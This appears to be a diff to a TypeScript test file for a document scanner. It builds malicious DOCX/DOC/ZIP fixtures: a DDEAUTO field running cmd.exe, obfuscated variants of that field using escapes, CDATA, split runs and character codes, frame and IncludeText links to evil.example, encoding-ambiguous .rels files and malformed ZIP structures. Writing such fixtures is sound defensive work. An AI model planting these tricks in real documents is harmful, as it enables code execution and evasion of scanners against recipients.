+  const escapedCommand = '<w:instrText>&#68;<!-- -->D<![CDATA[E]]> excel a b</w:instrText>'
   return [
     { what: 'a DOCX with a command', text: wordField('DDEAUTO c:\\\\cmd.exe "/k calc"') },
     {
@@ -775,9 +797,9 @@ function commandFields(): Array<{ what: string; text: string }> {
       what: 'a DOCX with a field that reads a network share as a file URL',
       text: wordField(' IncludeText file://evil.example/a'),
     },
-    { what: 'a DOCX with a command in one element', text: inOneElement },
-    { what: 'a DOCX with a command split over two runs', text: `${FIELD_BEGIN}${splitOverRuns}${FIELD_END}` },
-    { what: 'a DOCX with a command in escapes and CDATA', text: `${FIELD_BEGIN}${escaped}${FIELD_END}` },
+    { what: 'a DOCX with a command in one element', text: commandInOneElement },
+    { what: 'a DOCX with a command split over two runs', text: `${FIELD_BEGIN}${commandSplitOverRuns}${FIELD_END}` },
+    { what: 'a DOCX with a command in escapes and CDATA', text: `${FIELD_BEGIN}${escapedCommand}${FIELD_END}` },
     {
       what: 'a DOCX with a command written as character codes',
       text: `${FIELD_BEGIN}${wordField('QUOTE 68 68 69 65')}${FIELD_END}`,
@@ -794,36 +816,39 @@ function wordField(code: string): string {
 
 const MANY_XML_ELEMENTS = '<a b=""/>'.repeat(115_000)
 
-/** A relation whose names contain characters that XML allows outside ASCII. */
+/** A DOCX relationship whose XML names contain non-ASCII characters, which XML allows. */
 function relationWithNonAsciiNames(): string {
-  const plain = relation('frame', 'https://evil.example/', { isExternal: true })
-  return plain.replace('<Relationship ', '<é:Relationship xmlns:é="u" a\ufeff="b" Target\ufeff="a" ')
+  const asciiRelation = relation('frame', 'https://evil.example/', { isExternal: true })
+  return asciiRelation.replace('<Relationship ', '<é:Relationship xmlns:é="u" a\ufeff="b" Target\ufeff="a" ')
 }
 
 /** Returns DOCX parts (.rels) that two XML readers could understand differently. */
 function ambiguousRelationLists(): Array<{ what: string; bytes: Buffer }> {
-  const list = relation('frame', 'https://evil.example/', { isExternal: true })
+  const relationships = relation('frame', 'https://evil.example/', { isExternal: true })
   const attribute = '<!ATTLIST Relationship TargetMode CDATA "External">'
   return [
-    { what: 'a DOCX with a .rels file in UTF-16 without a byte order mark', bytes: Buffer.from(list, 'utf16le') },
+    {
+      what: 'a DOCX with a .rels file in UTF-16 without a byte order mark',
+      bytes: Buffer.from(relationships, 'utf16le'),
+    },
     {
       what: 'a DOCX with a .rels file in UTF-7',
-      bytes: Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${list}`),
+      bytes: Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${relationships}`),
     },
     {
       what: 'a DOCX with a .rels file in invalid UTF-8',
-      bytes: Buffer.concat([Buffer.from(list), Buffer.from([0xff])]),
+      bytes: Buffer.concat([Buffer.from(relationships), Buffer.from([0xff])]),
     },
     {
       what: 'a DOCX with a .rels file that declares attributes',
-      bytes: Buffer.from(`<!DOCTYPE a [${attribute}]>${list}`),
+      bytes: Buffer.from(`<!DOCTYPE a [${attribute}]>${relationships}`),
     },
-    { what: 'a DOCX with a .rels file with CDATA', bytes: Buffer.from(`<a><![CDATA[>]]>${list}</a>`) },
-    { what: 'a DOCX with a .rels file that is cut off', bytes: Buffer.from(list.slice(0, -3)) },
+    { what: 'a DOCX with a .rels file with CDATA', bytes: Buffer.from(`<a><![CDATA[>]]>${relationships}</a>`) },
+    { what: 'a DOCX with a .rels file that is cut off', bytes: Buffer.from(relationships.slice(0, -3)) },
   ]
 }
 
-/** A DOCX with an entry whose extra field gives a second name, as Info-ZIP writes it. */
+/** A DOCX with a ZIP entry that has a second name in its extra field, in the format of Info-ZIP. */
 function docxWithSecondName(): Buffer {
   const name = 'word/_rels/footer1.xml.rels'
   const extra = Buffer.concat([Buffer.from([0x75, 0x70, 10, 0, 1, 0, 0, 0, 0]), Buffer.from('a.xml')])
@@ -832,13 +857,13 @@ function docxWithSecondName(): Buffer {
   return sampleDocx({ more: [{ name, bytes, extra }] })
 }
 
-/** Returns a DOCX whose `[Content_Types].xml` gives every XML part the type of a document, as some programs do. */
+/** Returns a DOCX whose `[Content_Types].xml` gives every XML part the type of a Word document, as some programs do. */
 function docxTypedByDefault(): Buffer {
   const types = `<Types><Default Extension='xml' ContentType='${WORD_TYPE}' /></Types>`
   return sampleZip([{ name: '[Content_Types].xml', bytes: types }, ...docxEntries().slice(1)])
 }
 
-/** A DOC whose text should lie 256 GB into the root's stream, while the chain of its sectors is a loop. */
+/** A DOC whose sectors form an endless loop, while its directory says that the text begins after 256 GB. */
 function docWithEndlessChain(): Buffer {
   const doc = sampleCompoundFile({ WordDocument: wordStream({ size: 64 }) })
   const [table, directory] = [(doc.readUInt32LE(76) + 1) * 512, (doc.readUInt32LE(48) + 1) * 512]
@@ -849,13 +874,13 @@ function docWithEndlessChain(): Buffer {
   return doc
 }
 
-/** Returns a DOCX whose `[Content_Types].xml` unpacks to more bytes than declared. */
+/** Returns a DOCX whose `[Content_Types].xml` unpacks to more bytes than its ZIP header declares. */
 function docxWithWrongTypesSize(): Buffer {
   const [types, ...rest] = docxEntries()
   return sampleZip([{ ...types, name: '[Content_Types].xml', declared: { uncompressed: 300 } }, ...rest])
 }
 
-/** Adds a ZIP64 locator that points outside the file. */
+/** Adds a ZIP64 end-of-directory locator that points outside the file. */
 function withWrongZip64Locator(zip: Buffer): Buffer {
   const locator = Buffer.concat([Buffer.from('PK\x06\x07', 'latin1'), Buffer.alloc(16, 0xff)])
   return Buffer.concat([zip.subarray(0, -22), locator, zip.subarray(-22)])
